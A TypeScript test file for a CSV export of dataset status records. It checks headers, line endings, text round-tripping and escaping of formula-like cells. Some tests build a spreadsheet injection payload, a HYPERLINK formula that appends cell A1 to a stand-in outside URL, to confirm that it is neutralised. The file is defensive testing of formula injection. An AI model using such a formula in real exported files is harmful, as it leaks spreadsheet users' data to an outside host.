import { describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { CSV_COLUMNS, csvHead, csvRecords, type CsvRecord } from './records-csv.js';

function recordWith(changes: Partial<CsvRecord>): CsvRecord {
  const empty = Object.fromEntries(CSV_COLUMNS.map((column) => [column, null]));
  return { ...(empty as CsvRecord), dataset: 'weather', day: '2012-03-01', ...changes };
}

/** The text of an error as the file has it, between those of its neighbours. */
function errorTextIn(changes: Partial<CsvRecord>): string | undefined {
  const [row]: string[][] = parse(csvRecords([recordWith(changes)]));
  return row?.[CSV_COLUMNS.indexOf('error_text')];
}

describe('records as CSV', () => {
  it('begin with a byte order mark and the names of the columns', () => {
    expect(csvHead()).toBe(
      '\ufeffdataset,day,status,reason,rows,attempts,duration_ms,error_code,error_text,error_row,error_column,' +
        'last_task_id,last_tried_at,last_success_at,elsewhere,fetched_rows,quarantined_rows,unusual\r\n',
    );
  });

  it('end each line with CR and LF, and leave out what there is not', () => {
    expect(csvRecords([recordWith({ rows: 0 }), recordWith({})])).toBe(
      'weather,2012-03-01,,,0,,,,,,,,,,,,,\r\nweather,2012-03-01,,,,,,,,,,,,,,,,\r\n',
    );
  });

  it('keep any text as it is, line breaks, quotes and commas too', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', minLength: 1 }), (text) => {
        // So that it begins as no formula does, and has none inside.
        const shown = `x${text.toWellFormed()}`;
        fc.pre(!/[;\t\r\n]"*[=+\-@]/.test(shown));
        expect(errorTextIn({ error_text: shown })).toBe(shown);
      }),
    );
    for (const text of [
      ...['a\nb', 'a\rb', 'a\r\nb', '"', ',', ' a ', '天气', 'a=b', '1 - 2', 'a; b', 'a;b\tc'],
      ...['ana@example.com', 'one,-1', '2012-03-01T08:00:00+02:00'],
    ]) {
      expect(errorTextIn({ error_text: text })).toBe(text);
    }
  });

  it.each(['=', '+', '-', '@', '\t', '\r'])(
    'write a text that begins with %j as no formula',
    (sign) => {
      const text = `${sign}HYPERLINK("http://elsewhere.example?"&A1)`;
      expect(errorTextIn({ error_text: text })).toBe(`'${text}`);
    },
  );

  it.each(
    ['=', '+', '-', '@'].flatMap((sign) =>
      [';', '\t', '\n', '\r', '\r\n', ';"', ';\t'].map((before) => [before, sign] as const),
    ),
  )('write a text that has %j and then %j as no formula, however it is parted', (before, sign) => {
    const text = `no answer${before}${sign}1${before}${sign}2`;
    expect(errorTextIn({ error_text: text })).toBe(`no answer${before}'${sign}1${before}'${sign}2`);
  });

  it('leave numbers as they are', () => {
    expect(csvRecords([recordWith({ rows: -1 })])).toContain(',-1,');
  });
});
